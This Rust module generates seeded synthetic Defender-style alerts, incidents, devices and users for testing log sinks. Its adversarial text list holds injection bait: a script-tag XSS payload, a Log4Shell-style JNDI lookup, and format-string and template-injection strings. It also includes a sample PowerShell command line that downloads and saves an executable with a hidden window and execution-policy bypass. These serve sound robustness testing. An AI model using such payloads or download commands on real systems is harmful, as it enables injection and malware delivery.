//! Random but seeded content for the simulated tenants: devices, users, alerts and
//! incidents that look like Defender's, and the hostile text every sink must survive.

use crate::model::{
    Alert, AlertStatus, Comment, Device, Evidence, EvidenceKind, FileInfo, Incident,
    IncidentStatus, Severity, Source, UserAccount,
};
use crate::odata::{Tick, TICKS_PER_SEC};
use crate::PayloadProfile;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::Rng;

/// Text that breaks naive encoders: CEF and syslog delimiters, line breaks, quotes,
/// non-ASCII scripts, emoji, control characters, markup and injection bait.
pub(crate) const ADVERSARIAL: &[&str] = &[
    "Pipe | equals = backslash \\ in CEF:0|Microsoft|Defender|1.0|sig|name|10| ext=val",
    "Line one\r\nLine two\nLine three\rtail",
    "Tabs\tbetween\tcolumns\t",
    "Quotes \"double\" 'single' `back` and \\\"escaped\\\"",
    "Accents: Café, naïve, Ångström, São Paulo, Zürich, Łódź",
    "CJK: 可疑的 PowerShell 命令行 — 不審なスクリプト — 의심스러운 활동",
    "Emoji: 🔥💀🛡️ ransomware 🚨 👩‍💻 🇺🇦",
    "Control: \u{1}\u{7}\u{1b}[31mred\u{1b}[0m \u{7f} nul-free",
    "Markup <script>alert(1)</script> &amp; ${jndi:ldap://x.invalid/a} %s %n {{7*7}}",
    "Separators \u{2028} \u{2029} zero\u{200b}width BOM\u{feff} replacement \u{fffd}",
    "Trailing backslash \\",
    "   padded with spaces   ",
    "",
];

/// A 10 KB string mixing delimiters and non-ASCII, for size limits in sinks.
pub(crate) fn ten_kb() -> String {
    let unit = "Long text | with = delimiters \\ and ünïcödé 漢字 🔥\r\n";
    let mut s = String::with_capacity(10_300);
    while s.len() < 10_240 {
        s.push_str(unit);
    }
    s
}

pub(crate) fn guid(rng: &mut StdRng) -> String {
    uuid::Builder::from_random_bytes(rng.gen())
        .into_uuid()
        .to_string()
}

fn hex(rng: &mut StdRng, n: usize) -> String {
    const DIGITS: &[u8] = b"0123456789abcdef";
    (0..n)
        .map(|_| char::from(DIGITS[rng.gen_range(0..16)]))
        .collect()
}

/// A client secret in the shape Entra issues (40 characters, `~` after a 3-char prefix).
pub(crate) fn client_secret(rng: &mut StdRng) -> String {
    const CHARS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-.";
    let body: String = (0..36)
        .map(|_| char::from(CHARS[rng.gen_range(0..CHARS.len())]))
        .collect();
    format!("{}8Q~{body}", hex(rng, 1).to_uppercase())
}

/// An opaque refresh token like Entra's (`0.A...`, a few hundred URL-safe characters).
pub(crate) fn refresh_token(rng: &mut StdRng) -> String {
    const CHARS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
    let body: String = (0..320)
        .map(|_| char::from(CHARS[rng.gen_range(0..CHARS.len())]))
        .collect();
    format!("0.A{body}")
}

struct Template {
    source: Source,
    title: &'static str,
    category: &'static str,
    mitre: &'static [&'static str],
    family: Option<&'static str>,
}

const TEMPLATES: &[Template] = &[
    Template {
        source: Source::Endpoint,
        title: "Suspicious PowerShell command line",
        category: "Execution",
        mitre: &["T1059.001"],
        family: None,
    },
    Template {
        source: Source::Endpoint,
        title: "'Mimikatz' hacktool was detected",
        category: "Malware",
        mitre: &["T1003"],
        family: Some("Mimikatz"),
    },
    Template {
        source: Source::Endpoint,
        title: "Suspicious execution of hidden file",
        category: "DefenseEvasion",
        mitre: &["T1564.001"],
        family: None,
    },
    Template {
        source: Source::Endpoint,
        title: "Low-reputation arbitrary code executed by signed executable",
        category: "Execution",
        mitre: &["T1064", "T1085", "T1220"],
        family: None,
    },
    Template {
        source: Source::Endpoint,
        title: "Ransomware behavior detected in the file system",
        category: "Impact",
        mitre: &["T1486"],
        family: Some("Ryuk"),
    },
    Template {
        source: Source::Office,
        title: "Email reported by user as malware or phish",
        category: "InitialAccess",
        mitre: &["T1566"],
        family: None,
    },
    Template {
        source: Source::Office,
        title: "Email messages containing malicious URL removed after delivery",
        category: "InitialAccess",
        mitre: &["T1566.002"],
        family: None,
    },
    Template {
        source: Source::CloudApps,
        title: "Ransomware activity",
        category: "Impact",
        mitre: &[],
        family: None,
    },
    Template {
        source: Source::CloudApps,
        title: "Impossible travel activity",
        category: "InitialAccess",
        mitre: &["T1078"],
        family: None,
    },
    Template {
        source: Source::Identity,
        title: "Suspected brute-force attack (LDAP)",
        category: "CredentialAccess",
        mitre: &["T1110"],
        family: None,
    },
    Template {
        source: Source::Cloud,
        title: "Suspicious process executed on a virtual machine",
        category: "Execution",
        mitre: &["T1059"],
        family: None,
    },
];

const DESCRIPTIONS: &[&str] = &[
    "A suspicious PowerShell activity was observed on the machine. \nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
    "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users.\n\nThese tools are often used to collect personal information from browser records.",
    "A hidden file has been launched. This activity could indicate a compromised host.",
    "The user manipulated 99 files with multiple extensions ending with the uncommon extension herunterladen.",
];

const INVESTIGATION_STATES: &[&str] = &[
    "Queued",
    "Running",
    "PendingApproval",
    "UnsupportedAlertType",
    "UnsupportedOs",
    "SuccessfullyRemediated",
    "Benign",
    "TerminatedBySystem",
];

const CLASSIFICATIONS: &[(&str, &[&str])] = &[
    (
        "TruePositive",
        &[
            "MultiStagedAttack",
            "Malware",
            "Phishing",
            "CompromisedUser",
            "MaliciousUserActivity",
        ],
    ),
    (
        "FalsePositive",
        &["Clean", "InsufficientData", "NotMalicious"],
    ),
    (
        "InformationalExpectedActivity",
        &[
            "SecurityTesting",
            "LineOfBusinessApplication",
            "ConfirmedUserActivity",
        ],
    ),
];

/// Per-tenant pools, so alerts of one tenant share devices and users like real ones do.
pub(crate) struct Fixtures {
    pub devices: Vec<Device>,
    pub users: Vec<UserAccount>,
    pub analysts: Vec<String>,
}

impl Fixtures {
    pub fn new(rng: &mut StdRng, tenant_index: usize, now: Tick) -> Fixtures {
        let domain = format!("tenant{}.example", tenant_index + 1);
        let users: Vec<UserAccount> = (0..6)
            .map(|i| {
                let account = format!("user{i}");
                UserAccount {
                    upn: Some(format!("{account}@{domain}")),
                    account,
                    domain: "CORP".into(),
                    sid: format!(
                        "S-1-5-21-{}-{}-{}-{}",
                        rng.gen_range(1_000_000_000u64..4_000_000_000),
                        rng.gen_range(100_000_000u64..999_999_999),
                        rng.gen_range(100_000_000u64..999_999_999),
                        1000 + i
                    ),
                    aad_id: if rng.gen_bool(0.8) {
                        Some(guid(rng))
                    } else {
                        None
                    },
                }
            })
            .collect();
        let platforms = [
            ("Windows10", 19045, "22H2"),
            ("Windows11", 22621, "22H2"),
            ("WindowsServer2016", 14393, "1607"),
            ("Linux", 0, "Other"),
        ];
        let devices = (0..8)
            .map(|i| {
                let (os, build, version) = platforms[i % platforms.len()];
                Device {
                    mde_id: hex(rng, 40),
                    aad_id: if rng.gen_bool(0.6) {
                        Some(guid(rng))
                    } else {
                        None
                    },
                    dns_name: format!("host{i}.{domain}"),
                    os_platform: os,
                    os_build: build,
                    version,
                    healthy: rng.gen_bool(0.8),
                    risk: ["None", "Low", "Medium", "High"][rng.gen_range(0..4)],
                    rbac_group_id: rng.gen_range(0..20),
                    rbac_group_name: if rng.gen_bool(0.7) {
                        Some(format!("Ring{}", i % 3))
                    } else {
                        None
                    },
                    first_seen: now.minus(std::time::Duration::from_secs(
                        rng.gen_range(86_400..86_400 * 400),
                    )),
                    ips: vec![
                        format!(
                            "10.{}.{}.{}",
                            rng.gen_range(0..255),
                            rng.gen_range(0..255),
                            rng.gen_range(1..255)
                        ),
                        format!("fe80::{:x}:{:x}", rng.gen::<u16>(), rng.gen::<u16>()),
                        "127.0.0.1".into(),
                        "::1".into(),
                    ],
                    logged_on: vec![(format!("user{}", i % 6), "CORP".into())],
                }
            })
            .collect();
        let analysts = (0..3).map(|i| format!("analyst{i}@{domain}")).collect();
        Fixtures {
            devices,
            users,
            analysts,
        }
    }
}

/// What extra hostility an alert gets. The backlog forces each kind at least once so
/// every tenant exercises all of them from the first poll.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Hostile {
    None,
    Text(usize),
    TenKb,
    HugeEvidence,
    NoEvidence,
    Random,
}

impl Hostile {
    /// The forced kind for the `i`th backlog alert of a tenant.
    pub fn for_backlog(i: usize) -> Hostile {
        match i {
            i if i < ADVERSARIAL.len() => Hostile::Text(i),
            i if i == ADVERSARIAL.len() => Hostile::TenKb,
            i if i == ADVERSARIAL.len() + 1 => Hostile::HugeEvidence,
            i if i == ADVERSARIAL.len() + 2 => Hostile::NoEvidence,
            _ => Hostile::Random,
        }
    }
}

fn pick_text(rng: &mut StdRng, p: f64) -> Option<String> {
    if rng.gen_bool(p) {
        ADVERSARIAL.choose(rng).map(|s| (*s).to_string())
    } else {
        None
    }
}

fn file(rng: &mut StdRng, name: &str, path: &str) -> FileInfo {
    FileInfo {
        sha1: Some(hex(rng, 40)),
        sha256: if rng.gen_bool(0.7) {
            Some(hex(rng, 64))
        } else {
            None
        },
        name: name.to_string(),
        path: path.to_string(),
        size: rng.gen_range(10_000..9_000_000),
        publisher: if rng.gen_bool(0.5) {
            Some("Microsoft Corporation".into())
        } else {
            None
        },
    }
}

fn evidence(rng: &mut StdRng, fx: &Fixtures, at: Tick, hostile: bool) -> Evidence {
    let odd = |rng: &mut StdRng| if hostile { pick_text(rng, 0.5) } else { None };
    let kind = match rng.gen_range(0..6) {
        0 => EvidenceKind::User(fx.users[rng.gen_range(0..fx.users.len())].clone()),
        1 => EvidenceKind::Ip {
            address: format!(
                "{}.{}.{}.{}",
                rng.gen_range(1..223),
                rng.gen_range(0..255),
                rng.gen_range(0..255),
                rng.gen_range(1..255)
            ),
            country: if rng.gen_bool(0.5) { Some("US") } else { None },
        },
        2 => EvidenceKind::Url {
            url: odd(rng).map_or_else(
                || format!("http://{}.invalid/{}.exe", hex(rng, 6), hex(rng, 4)),
                |t| format!("http://x.invalid/?q={t}"),
            ),
        },
        3 => {
            let name = odd(rng).unwrap_or_else(|| format!("{}.dll", hex(rng, 6)));
            EvidenceKind::File {
                file: file(rng, &name, "C:\\Users\\Public\\Temp"),
            }
        }
        4 => {
            let cmdline = odd(rng).unwrap_or_else(|| {
                "powershell.exe  -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden (New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', 'C:\\\\test\\\\invoice.exe')".to_string()
            });
            let created = at.minus(std::time::Duration::from_secs(rng.gen_range(5..600)));
            EvidenceKind::Process {
                pid: rng.gen_range(100..60_000),
                ppid: rng.gen_range(100..60_000),
                cmdline,
                created,
                parent_created: created
                    .minus(std::time::Duration::from_secs(rng.gen_range(1..3_600))),
                image: file(
                    rng,
                    "powershell.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                ),
                parent_image: file(rng, "cmd.exe", "C:\\Windows\\System32"),
                user: if rng.gen_bool(0.7) {
                    Some(fx.users[rng.gen_range(0..fx.users.len())].clone())
                } else {
                    None
                },
            }
        }
        _ => EvidenceKind::Registry {
            key: "SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER".into(),
            hive: "HKEY_LOCAL_MACHINE",
            value_type: if rng.gen_bool(0.5) {
                Some("Dword")
            } else {
                None
            },
            value: if rng.gen_bool(0.5) {
                Some("1".into())
            } else {
                None
            },
        },
    };
    Evidence {
        created: at,
        suspicious: rng.gen_bool(0.3),
        detected: rng.gen_bool(0.8),
        kind,
    }
}

/// A new alert with id `id` (its provider id and Graph id derive from it).
#[allow(clippy::too_many_arguments)]
pub(crate) fn alert(
    rng: &mut StdRng,
    fx: &Fixtures,
    profile: PayloadProfile,
    seq: u64,
    incident: u64,
    at: Tick,
    mut hostile: Hostile,
    source: Option<Source>,
) -> Alert {
    let templates: Vec<&Template> = match source {
        Some(s) => TEMPLATES.iter().filter(|t| t.source == s).collect(),
        None => TEMPLATES.iter().collect(),
    };
    let t = templates.choose(rng).copied().unwrap_or(&TEMPLATES[0]);
    if matches!(profile, PayloadProfile::Uniform { .. }) {
        hostile = Hostile::None;
    }
    if hostile == Hostile::Random {
        hostile = match rng.gen_range(0..100) {
            0..=11 => Hostile::Text(rng.gen_range(0..ADVERSARIAL.len())),
            12..=13 => Hostile::TenKb,
            14 => Hostile::HugeEvidence,
            15..=24 => Hostile::NoEvidence,
            _ => Hostile::None,
        };
    }
    let provider_id = match t.source {
        Source::Endpoint => format!(
            "{}_{}",
            637_000_000_000_000_000u64 + seq * 1_000 + rng.gen_range(0..1_000),
            rng.gen::<i32>()
        ),
        Source::CloudApps => guid(rng).to_uppercase(),
        _ => guid(rng),
    };
    // Graph, XDR and MDE all show the id with the provider's two-letter prefix.
    let id = format!("{}{}", t.source.id_prefix(), provider_id);
    let device = match t.source {
        Source::Endpoint | Source::Cloud => {
            Some(fx.devices[rng.gen_range(0..fx.devices.len())].clone())
        }
        _ => None,
    };
    let user = &fx.users[rng.gen_range(0..fx.users.len())];
    let mut title = t.title.to_string();
    let mut description = DESCRIPTIONS[rng.gen_range(0..DESCRIPTIONS.len())].to_string();
    let hostile_evidence = !matches!(hostile, Hostile::None);
    let n_evidence = match hostile {
        Hostile::HugeEvidence => 200,
        Hostile::NoEvidence => 0,
        _ => rng.gen_range(1..6),
    };
    match hostile {
        Hostile::Text(i) => {
            title = format!("{} {}", t.title, ADVERSARIAL[i % ADVERSARIAL.len()]);
            description = format!("{}{description}", ADVERSARIAL[(i + 1) % ADVERSARIAL.len()]);
        }
        Hostile::TenKb => description = ten_kb(),
        _ => {}
    }
    let created = at;
    let first_activity = at.minus(std::time::Duration::from_secs(rng.gen_range(30..1_800)));
    let last_activity =
        Tick(first_activity.0 + rng.gen_range(0..=(created.0 - first_activity.0).max(0)));
    let mut a = Alert {
        id,
        provider_id,
        source: t.source,
        incident,
        title,
        description,
        recommended_actions: "1. Examine the command line to understand what was executed.\n2. Search for more indicators.\n\u{fffd}\tIsolate the device if needed.".into(),
        category: t.category,
        severity: Severity::ALL[rng.gen_range(0..4)],
        status: AlertStatus::New,
        classification: None,
        determination: None,
        assigned_to: None,
        detector_id: guid(rng),
        investigation_id: if rng.gen_bool(0.4) { Some(rng.gen_range(1..100_000)) } else { None },
        investigation_state: INVESTIGATION_STATES[rng.gen_range(0..INVESTIGATION_STATES.len())],
        threat_family: t.family.map(str::to_string),
        actor: if rng.gen_bool(0.1) { Some("STRONTIUM".into()) } else { None },
        mitre: t.mitre.to_vec(),
        created,
        first_activity,
        last_activity,
        resolved: None,
        last_update: at,
        related_user: device.as_ref().map(|_| (user.account.clone(), user.domain.clone())),
        device,
        evidence: Vec::new(),
        comments: Vec::new(),
    };
    a.evidence = (0..n_evidence)
        .map(|_| evidence(rng, fx, created, hostile_evidence))
        .collect();
    if let PayloadProfile::Uniform { alert_bytes } = profile {
        pad_to(rng, fx, &mut a, alert_bytes);
    }
    a
}

/// Grows the alert so its alerts_v2 rendering is about `target` bytes: benchmark payloads
/// of a known size. It grows by more evidence (devices, files, processes, IPs, with their
/// own GUIDs, hashes and times), as real alerts grow, so that compression ratios measured
/// on these payloads are those of real alerts, not of repeated text; only the last few
/// hundred bytes are made up by the description.
fn pad_to(rng: &mut StdRng, fx: &Fixtures, a: &mut Alert, target: usize) {
    let size_of =
        |a: &Alert| crate::model::graph_alert_json(a, "00000000-0000-0000-0000-000000000000").len();
    loop {
        let before = size_of(a);
        if before >= target {
            return;
        }
        a.evidence.push(evidence(rng, fx, a.created, false));
        if size_of(a) > target {
            a.evidence.pop();
            break;
        }
    }
    let size = size_of(a);
    if size < target {
        const VERBS: &[&str] = &["loaded", "opened", "wrote", "renamed", "queried", "spawned"];
        let need = target - size;
        let mut pad = String::with_capacity(need);
        loop {
            // Plain ASCII with no JSON escapes, so its rendered size is its length.
            let sentence = format!(
                " Process {} {} {}.dll at 0x{}.",
                hex(rng, 4),
                VERBS[rng.gen_range(0..VERBS.len())],
                hex(rng, 3),
                hex(rng, 4)
            );
            if pad.len() + sentence.len() > need {
                break;
            }
            pad.push_str(&sentence);
        }
        while pad.len() < need {
            pad.push('.');
        }
        a.description.push_str(&pad);
    }
}

/// A new incident named after its first alert.
pub(crate) fn incident(rng: &mut StdRng, id: u64, first: &Alert, at: Tick) -> Incident {
    let name = if rng.gen_bool(0.3) {
        format!(
            "Multi-stage incident involving {} on multiple endpoints",
            first.category
        )
    } else {
        format!("{} on one endpoint", first.title)
    };
    Incident {
        id,
        name,
        description: "Microsoft observed activity in your environment. ...".into(),
        created: at,
        last_update: at,
        assigned_to: None,
        classification: "Unknown",
        determination: "NotAvailable",
        status: IncidentStatus::Active,
        severity: first.severity,
        redirect: None,
        tags: Vec::new(),
        system_tags: if rng.gen_bool(0.1) {
            vec!["Defender Experts"]
        } else {
            Vec::new()
        },
        comments: Vec::new(),
        alerts: vec![first.id.clone()],
    }
}

/// A comment by an analyst; sometimes hostile text.
pub(crate) fn comment(
    rng: &mut StdRng,
    fx: &Fixtures,
    profile: PayloadProfile,
    at: Tick,
) -> Comment {
    let hostile = !matches!(profile, PayloadProfile::Uniform { .. });
    let text = if hostile { pick_text(rng, 0.3) } else { None };
    Comment {
        text: text.unwrap_or_else(|| "Investigating; contacted the device owner.".into()),
        by: fx.analysts[rng.gen_range(0..fx.analysts.len())].clone(),
        at,
    }
}

/// A (classification, determination) pair for a resolution.
pub(crate) fn resolution(rng: &mut StdRng) -> (&'static str, &'static str) {
    let (c, ds) = CLASSIFICATIONS[rng.gen_range(0..CLASSIFICATIONS.len())];
    (c, ds[rng.gen_range(0..ds.len())])
}

/// Quantises a timestamp the way the services store it: sometimes whole seconds, often
/// fewer than 7 digits, and often SQL `datetime` steps of 1/300 s (`.2433333`,
/// `.6266667`), which is why the same API prints 0 to 7 fractional digits.
pub(crate) fn quantize(rng: &mut StdRng, t: Tick) -> Tick {
    let sec = t.0 - t.subsec();
    let frac = t.subsec();
    let q = match rng.gen_range(0..12) {
        0 => 0,
        1..=6 => {
            let digits = rng.gen_range(1..=6u32);
            let step = 10i64.pow(7 - digits);
            frac - frac % step
        }
        7..=9 => {
            // Round down to the 1/300 s grid, then to ticks like .NET converts it.
            let steps = frac * 300 / TICKS_PER_SEC;
            (steps * TICKS_PER_SEC + 150) / 300
        }
        _ => frac,
    };
    Tick(sec + q)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn quantize_gives_every_precision() {
        let mut rng = StdRng::seed_from_u64(1);
        let t = Tick(1_700_000_000 * TICKS_PER_SEC + 1_234_567);
        let mut digits = std::collections::BTreeSet::new();
        for _ in 0..2_000 {
            let q = quantize(&mut rng, t);
            assert!(q <= t);
            assert!(t.0 - q.0 < TICKS_PER_SEC);
            let s = q.format_trimmed();
            let d = s.split('.').nth(1).map_or(0, |f| f.len() - 1);
            digits.insert(d);
        }
        assert_eq!(
            digits.into_iter().collect::<Vec<_>>(),
            vec![0, 1, 2, 3, 4, 5, 6, 7]
        );
    }

    #[test]
    fn sql_datetime_steps_look_like_the_samples() {
        let mut rng = StdRng::seed_from_u64(2);
        // .29 s lies on step 87 of 300: 0.29 exactly.
        let t = Tick(1_600_000_000 * TICKS_PER_SEC + 2_900_000);
        let seen: std::collections::BTreeSet<String> = (0..500)
            .map(|_| quantize(&mut rng, t).format_trimmed())
            .collect();
        assert!(seen.iter().any(|s| s.ends_with(":40.29Z")), "{seen:?}");
    }

    #[test]
    fn uniform_profile_pads_to_size_and_has_no_hostile_text() {
        let mut rng = StdRng::seed_from_u64(3);
        let fx = Fixtures::new(&mut rng, 0, Tick::now());
        let mut total = 0;
        for i in 0..50 {
            let a = alert(
                &mut rng,
                &fx,
                PayloadProfile::Uniform { alert_bytes: 6_000 },
                i,
                1,
                Tick::now(),
                Hostile::for_backlog(i as usize),
                None,
            );
            let len =
                crate::model::graph_alert_json(&a, "00000000-0000-0000-0000-000000000000").len();
            assert!(len >= 6_000, "{len}");
            assert!(!ADVERSARIAL[..ADVERSARIAL.len() - 1]
                .iter()
                .any(|s| a.title.contains(s)));
            total += len;
            // Grown by real-looking evidence, not by kilobytes of one repeated sentence
            // (which would make compression ratios in benchmarks meaningless).
            assert!(a.evidence.len() >= 3, "{}", a.evidence.len());
        }
        // About the target on average (an alert born bigger than the target stays as is).
        assert!((6_000..6_300).contains(&(total / 50)), "{}", total / 50);
    }
}
